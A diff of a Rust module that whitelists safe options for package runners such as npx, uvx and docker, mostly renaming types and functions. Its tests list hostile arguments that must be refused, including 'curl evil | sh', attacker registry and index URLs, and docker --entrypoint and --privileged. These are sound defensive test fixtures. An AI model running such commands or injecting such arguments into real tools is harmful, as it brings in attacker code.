@@ -1,12 +1,12 @@
 //! What runs packages, and which words for it are taken from a registry.
 
 use crate::plan::error::PlanError;
-use crate::plan::plan_type::Item;
-use crate::plan::template::Piece;
+use crate::plan::install_plan::PlanItem;
+use crate::plan::template::TemplatePiece;
 
 /// A program that fetches and runs packages.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub(crate) enum Runner {
+pub(crate) enum PackageRunner {
     Npx,
     Bunx,
     Uvx,
@@ -17,17 +17,17 @@ pub(crate) enum Runner {
 
 /// Options without a value, and with one. Everything else could bring in other code than the
 /// package that was shown.
-type Options = (&'static [&'static str], &'static [&'static str]);
+type AllowedOptions = (&'static [&'static str], &'static [&'static str]);
 
-const NPX: Options =
+const NPX: AllowedOptions =
     (&["-y", "--yes", "-q", "--quiet", "--silent", "--prefer-offline"], &["--loglevel"]);
-const UVX: Options = (
+const UVX: AllowedOptions = (
     &["-q", "--quiet", "--no-progress", "--isolated", "--offline", "-v", "--verbose"],
     &["-p", "--python"],
 );
-const DNX: Options =
+const DNX: AllowedOptions =
     (&["-y", "--yes", "--allow-roll-forward", "--prerelease"], &["-v", "--verbosity"]);
-const CONTAINER: Options = (
+const CONTAINER: AllowedOptions = (
     &["-i", "--interactive", "--rm", "--init", "--read-only", "-q", "--quiet"],
     &[
         "-e",
@@ -65,9 +65,9 @@ const CONTAINER: Options = (
     ],
 );
 
-impl Runner {
+impl PackageRunner {
     /// The one for a kind of package; a hint chooses among those that can do it.
-    pub(crate) fn of(kind: &str, hint: Option<&str>) -> Option<Self> {
+    pub(crate) fn for_package(kind: &str, hint: Option<&str>) -> Option<Self> {
         match (kind, hint) {
             ("npm", Some("bunx" | "bun")) => Some(Self::Bunx),
             ("npm", _) => Some(Self::Npx),
@@ -95,7 +95,7 @@ impl Runner {
         matches!(self, Self::Docker | Self::Podman)
     }
 
-    const fn options(self) -> Options {
+    const fn options(self) -> AllowedOptions {
         match self {
             Self::Npx => NPX,
             Self::Bunx => (&[], &[]),
@@ -109,18 +109,18 @@ impl Runner {
     ///
     /// # Errors
     /// When one of them is none of the known harmless ones.
-    pub(crate) fn accepted(
+    pub(crate) fn accept_items(
         self,
-        items: Vec<Item>,
+        items: Vec<PlanItem>,
         package: &str,
         said: &[&str],
-    ) -> Result<Vec<Item>, PlanError> {
+    ) -> Result<Vec<PlanItem>, PlanError> {
         let (plain, with_value) = self.options();
         let mut taken = Vec::new();
         let mut rest = items.into_iter().peekable();
         while let Some(mut item) = rest.next() {
-            let Some(first) = fixed(&item, 0) else {
-                return Err(PlanError::RunnerArgument(shown(&item)));
+            let Some(first) = fixed_word(&item, 0) else {
+                return Err(PlanError::RunnerArgument(item_text(&item)));
             };
             let (option, has_value) = match first.split_once('=') {
                 Some((option, _)) if option.starts_with("--") => (option, true),
@@ -151,25 +151,25 @@ impl Runner {
 }
 
 /// A word that does not depend on answers.
-fn fixed(item: &Item, index: usize) -> Option<String> {
+fn fixed_word(item: &PlanItem, index: usize) -> Option<String> {
     match item.words.get(index)?.pieces.as_slice() {
-        [Piece::Text(text)] => Some(text.clone()),
+        [TemplatePiece::Text(text)] => Some(text.clone()),
         _ => None,
     }
 }
 
-fn shown(item: &Item) -> String {
-    item.words.iter().map(crate::plan::Template::shown).collect::<Vec<_>>().join(" ")
+fn item_text(item: &PlanItem) -> String {
+    item.words.iter().map(crate::plan::Template::display_text).collect::<Vec<_>>().join(" ")
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    fn check(runner: Runner, words: &[&str], expected: Result<&str, &str>) {
-        let items = words.iter().map(|word| Item::fixed([*word])).collect();
-        let got = runner.accepted(items, "a@1.2.3", &["run", "-i", "--rm"]);
-        let got = got.map(|items| items.iter().map(shown).collect::<Vec<_>>().join(" "));
+    fn check(runner: PackageRunner, words: &[&str], expected: Result<&str, &str>) {
+        let items = words.iter().map(|word| PlanItem::from_fixed_words([*word])).collect();
+        let got = runner.accept_items(items, "a@1.2.3", &["run", "-i", "--rm"]);
+        let got = got.map(|items| items.iter().map(item_text).collect::<Vec<_>>().join(" "));
         let expected =
             expected.map(str::to_owned).map_err(|word| PlanError::RunnerArgument(word.to_owned()));
         assert_eq!(got, expected, "{runner:?} {words:?}");
@@ -177,32 +177,36 @@ mod tests {
 
     #[test]
     fn words_that_bring_in_other_code_are_refused() {
-        check(Runner::Npx, &["-y", "a@1.2.3"], Ok("-y"));
-        check(Runner::Npx, &["-y", "a"], Ok("-y"));
-        check(Runner::Npx, &["--package=evil"], Err("--package=evil"));
-        check(Runner::Npx, &["--package", "evil"], Err("--package"));
-        check(Runner::Npx, &["-c", "curl evil | sh"], Err("-c"));
-        check(Runner::Npx, &["--node-options=--require=./x"], Err("--node-options=--require=./x"));
+        check(PackageRunner::Npx, &["-y", "a@1.2.3"], Ok("-y"));
+        check(PackageRunner::Npx, &["-y", "a"], Ok("-y"));
+        check(PackageRunner::Npx, &["--package=evil"], Err("--package=evil"));
+        check(PackageRunner::Npx, &["--package", "evil"], Err("--package"));
+        check(PackageRunner::Npx, &["-c", "curl evil | sh"], Err("-c"));
         check(
-            Runner::Npx,
+            PackageRunner::Npx,
+            &["--node-options=--require=./x"],
+            Err("--node-options=--require=./x"),
+        );
+        check(
+            PackageRunner::Npx,
             &["--registry=https://evil.example"],
             Err("--registry=https://evil.example"),
         );
-        check(Runner::Npx, &["b@1.0.0"], Err("b@1.0.0"));
-        check(Runner::Uvx, &["--python", "3.12"], Ok("--python 3.12"));
-        check(Runner::Uvx, &["--from", "git+https://evil"], Err("--from"));
-        check(Runner::Uvx, &["--with", "evil"], Err("--with"));
-        check(Runner::Uvx, &["--index-url=https://evil"], Err("--index-url=https://evil"));
-        check(Runner::Docker, &["run", "-i", "--rm", "-v", "/a:/b"], Ok("-v /a:/b"));
+        check(PackageRunner::Npx, &["b@1.0.0"], Err("b@1.0.0"));
+        check(PackageRunner::Uvx, &["--python", "3.12"], Ok("--python 3.12"));
+        check(PackageRunner::Uvx, &["--from", "git+https://evil"], Err("--from"));
+        check(PackageRunner::Uvx, &["--with", "evil"], Err("--with"));
+        check(PackageRunner::Uvx, &["--index-url=https://evil"], Err("--index-url=https://evil"));
+        check(PackageRunner::Docker, &["run", "-i", "--rm", "-v", "/a:/b"], Ok("-v /a:/b"));
         check(
-            Runner::Docker,
+            PackageRunner::Docker,
             &["--mount=type=bind,src=/a,dst=/b"],
             Ok("--mount=type=bind,src=/a,dst=/b"),
         );
-        check(Runner::Docker, &["--entrypoint", "sh"], Err("--entrypoint"));
-        check(Runner::Docker, &["--privileged"], Err("--privileged"));
-        check(Runner::Docker, &["--env-file", "x"], Err("--env-file"));
-        check(Runner::Docker, &["-v"], Err("-v"));
+        check(PackageRunner::Docker, &["--entrypoint", "sh"], Err("--entrypoint"));
+        check(PackageRunner::Docker, &["--privileged"], Err("--privileged"));
+        check(PackageRunner::Docker, &["--env-file", "x"], Err("--env-file"));
+        check(PackageRunner::Docker, &["-v"], Err("-v"));
     }
 
     #[test]
@@ -218,7 +222,11 @@ mod tests {
             ("cargo", None, None),
             ("shell", Some("bash"), None),
         ] {
-            assert_eq!(Runner::of(kind, hint).map(Runner::command), expected, "{kind} {hint:?}");
+            assert_eq!(
+                PackageRunner::for_package(kind, hint).map(PackageRunner::command),
+                expected,
+                "{kind} {hint:?}"
+            );
         }
     }
 }
